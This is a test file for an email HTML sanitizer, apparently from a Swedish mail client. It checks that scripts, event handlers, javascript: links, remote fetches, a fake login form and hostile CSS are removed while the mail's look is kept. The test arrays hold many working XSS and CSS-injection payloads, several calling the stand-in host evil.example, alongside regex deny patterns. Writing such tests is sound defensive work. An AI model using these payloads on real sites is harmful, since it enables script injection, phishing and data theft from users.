import { describe, expect, it } from 'vitest';
import { safeHtml } from './safe-html.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvA\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<body onload=alert(1)>x</body>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<style>@import url(//evil.example/x.css);</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=p><button>Logga in</button></form>',
  '<video src=x onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<p id="root" class="modal" name="body">x</p>',
  '<img srcset="//evil.example/a.png 2x" src="//evil.example/b.png">',
  '<table background="//evil.example/x.png"><tr><td>x</td></tr></table>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="//evil.example" target="_self" rel="opener">x</a>',
  '\0<scr\0ipt>alert(1)</scr\0ipt>',
];

describe('EML-3 HTML is shown safe', () => {
  it('EML-3: nothing of the attacks can run, fetch, cover or be named', () => {
    for (const attack of attacks) {
      const { html } = safeHtml(`<p>Hej</p>${attack}`, false);
      expect(html, attack).toContain('Hej');
      expect(html, attack).not.toMatch(
        /<(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|video|template|details)/i,
      );
      expect(html, attack).not.toMatch(/<[^>]+\son\w+\s*=/i);
      expect(html, attack).not.toMatch(/<[^>]*(javascript|vbscript|data:|expression\(|url\(|position\s*:)/i);
      expect(html, attack).not.toMatch(/<[^>]+\s(src|srcset|background|poster)\s*=\s*["']?(?!cid:)/i);
      expect(html, attack).not.toMatch(/<[^>]+\s(id|class|name)=/i);
    }
  });

  it('EML-3: how a letter looks is kept: what is light on dark stays so, what is not to be seen is not, its title is no text', () => {
    const kept = (style: string) =>
      /style="([^"]*)"/.exec(safeHtml(`<p style="${style}">x</p>`, false).html)?.[1] ?? '';
    for (const style of [
      'color:#fff;background:#7a1f1f',
      'background-color:rgb(10, 20, 30)',
      'padding:14px 28px;margin:0 auto',
      'display:none;max-height:0;overflow:hidden',
      'border:solid windowtext 1.0pt',
      'border-radius:6px;line-height:115%',
      "font:16px/24px 'Segoe UI',Arial,sans-serif",
      'width:600px;max-width:100%;text-align:center',
    ])
      expect(kept(style)).toBe(style);
    for (const style of [
      'background:url(https://evil.example/x)',
      'background:#fff url(//evil.example/x)',
      'position:fixed',
      'margin-top:-500px',
      'width:expression(alert(1))',
      'font-family:x;behavior:url(x)',
      'content:"x"',
      'width:calc(100% + 1px)',
      'color:var(--sv-ink)',
      'opacity:0',
      'transform:scale(99)',
      'background:\\75rl(x)',
    ])
      expect(kept(style), style).not.toMatch(
        /url|position|-500|expression|behavior|content|calc|var|opacity|transform|75rl/,
      );
    expect(safeHtml('<head><title>Mall 7</title></head><body>Hej</body>', false).html).toBe('Hej');
  });

  it('EML-3: remote pictures are blocked until asked for, the mail’s own stay', () => {
    const { html, remotePictures } = safeHtml(
      '<img src="https://spy.example/p.gif" width=1><img src="cid:logo">',
      false,
    );
    expect(remotePictures).toBe(true);
    expect(html).toContain('data-remote-src="https://spy.example/p.gif"');
    expect(html).not.toMatch(/ src="https?:/);
    expect(html).toContain('src="cid:logo"');
    expect(safeHtml('<img src="cid:logo">', false).remotePictures).toBe(false);
  });

  it('EML-3: a mail cannot bring a data-remote-src of its own past the door', () => {
    expect(safeHtml('<img data-remote-src="javascript:alert(1)" src="cid:a">', false).html).not.toContain('javascript');
    expect(safeHtml('<img data-remote-src="//evil.example/x">', false).html).toBe('');
  });

  it('EML-3: what the mail program quotes folds; open and folded hold all words', () => {
    const mail =
      '<div>Tack, nu går det.</div><div class="gmail_quote"><div>Den 30 okt skrev Anna:</div><blockquote>Prova igen</blockquote></div>';
    const safe = safeHtml(mail, true);
    expect(safe.html).toContain('nu går det');
    expect(safe.html).not.toContain('Prova igen');
    expect(safe.quotedHtml).toContain('Prova igen');
    expect(safeHtml('<blockquote>bara citat</blockquote>', true).html).toContain('bara citat');
  });

  it('EML-3: looks survive: bold, lists, tables, colours and links', () => {
    const { html } = safeHtml(
      '<p style="color:#c00;font-weight:bold">Röd</p><ul><li>a</li></ul><a href="https://x.example">x</a>',
      false,
    );
    expect(html).toMatch(/color:\s?#c00/);
    expect(html).toContain('<li>a</li>');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it('EML-3: a letter’s style sheets stay, rebuilt and under names of their own, with the classes and ids they name', () => {
    const sheet = `<style>
      <!-- .knapp, a.lank:hover { background-color: #123456; color: #fff !important; position: fixed; opacity: 0 }
      #rubrik { font-size: 28px } -->
      @media only screen and (max-width: 600px) { .bred { width: 100% } }
      body { background: #eeeeee }
    </style>`;
    const { html } = safeHtml(
      `${sheet}<h1 id="rubrik" class="okänd">Hej</h1><a class="knapp stor" href="https://x.example">x</a>`,
      false,
    );
    expect(html).toContain('.m-knapp,a.m-lank:hover{background-color:#123456;color:#fff!important}');
    expect(html).toContain('#m-rubrik{font-size:28px}');
    expect(html).toMatch(/@media only screen and \(max-width:\s?600px\)\{\.m-bred\{width:100%\}\}/);
    expect(html).toContain('body{background:#eeeeee}');
    expect(html).toContain('<h1 id="m-rubrik">Hej</h1>');
    expect(html).toMatch(/<a [^>]*class="m-knapp"/);
    expect(html).not.toMatch(/position|opacity|stor|okänd/);
    expect(safeHtml('<p class="knapp" id="x">utan blad</p>', false).html).toBe('<p>utan blad</p>');
  });

  it('EML-3: no style sheet fetches, imports, covers, moves, makes content or breaks out of itself', () => {
    const sheets = [
      '@import url(//evil.example/x.css);',
      '@import "//evil.example/x.css"; p { color: red }',
      '@font-face { font-family: x; src: url(//evil.example/x.woff) }',
      'p { background: url(https://evil.example/x.png) }',
      'p { background: \\75rl(https://evil.example/x.png) }',
      'p { background-image: image-set("https://evil.example/x.png" 1x) }',
      'input[value^="a"] { color: red }',
      'p::before { content: "Lita på oss" }',
      'p { content: "x"; color: expression(alert(1)); behavior: url(x) }',
      'p { position: fixed; top: 0; z-index: 9 }',
      'p { animation: x 1s } @keyframes x { from { color: red } }',
      'p { color: red } </sty' + 'le><script>alert(1)</script>',
      '.\\3c \\2f style { color: red }',
      '@media (prefers-color-scheme: dark) { p { color: red } }',
      '@supports (display: grid) { p { color: red } }',
      '@layer a { p { color: red } }',
      '@media screen { @import url(//evil.example/x.css); p { background: url(//evil.example/x) } }',
      ':root { --x: url(//evil.example/x) } p { color: var(--x) }',
      'p:has(a) { color: red } html { display: none }',
      'p { color: red',
      '}}}}{{{{ p { color',
      '\0p { col\0or: red }',
    ];
    for (const sheet of sheets) {
      const { html } = safeHtml(`<style>${sheet}</style><p>Hej</p>`, false);
      expect(html, sheet).toContain('<p>Hej</p>');
      expect(html, sheet).not.toMatch(
        /url|import|font-face|evil|content|expression|behavior|position|animation|keyframes|script|--x|var\(|:has|html\{|\\|prefers|@supports|@layer|\[/i,
      );
    }
  });

  it('EML-3: a style sheet without end is left out, and the letter stays', () => {
    const huge = `<style>${'.a{color:red}'.repeat(60_000)}</style><p>Hej</p>`;
    expect(safeHtml(huge, false).html).toContain('<p>Hej</p>');
    expect(safeHtml(huge, false).html.length).toBeLessThan(200_000);
    expect(safeHtml('<style media="print">p{color:red}</style><p>Hej</p>', false).html).toBe('<p>Hej</p>');
    expect(safeHtml('<!--[if mso]><style>p{color:red}</style><![endif]--><p>Hej</p>', false).html).toBe('<p>Hej</p>');
  });

  it('EML-3: what a whole letter stands on, light or dark, stays', () => {
    const { html } = safeHtml(
      '<html><body style="background:#111;color:#fff" onload="x()"><p>Ljust</p></body></html>',
      false,
    );
    expect(html).toBe('<div style="background:#111;color:#fff"><p>Ljust</p></div>');
  });
});
